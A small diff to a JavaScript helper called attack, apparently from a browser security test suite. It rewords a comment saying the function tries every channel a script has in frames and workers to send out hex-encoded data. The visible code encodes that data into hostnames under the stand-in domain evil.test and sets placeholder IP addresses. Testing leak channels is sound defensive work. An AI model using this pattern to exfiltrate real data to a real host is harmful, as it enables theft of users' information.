@@ -1,5 +1,6 @@
-// Tries every way out that a script has, in the place where it runs. `hex` is what it wants to get out, `port` the first of
-// its own ports at addresses that need no name; `relayAlone` keeps it to the names of relays. It uses nothing from around it: its text is put into frames and workers.
+// Tries every channel that a script has, in the context where it runs. `hex` is the text to send out, and `port` is the
+// first of its ports at addresses that need no name. `relayAlone` restricts it to the names of relays. It uses nothing
+// from its surroundings, because its source is put into frames and workers.
 function attack(place, hex, port, relayAlone) {
   const v4 = '44.128.66.6', v6 = '[3ffe:44:64::6]';
   const host = (way) => `${place}-${way}.${hex}.evil.test`;
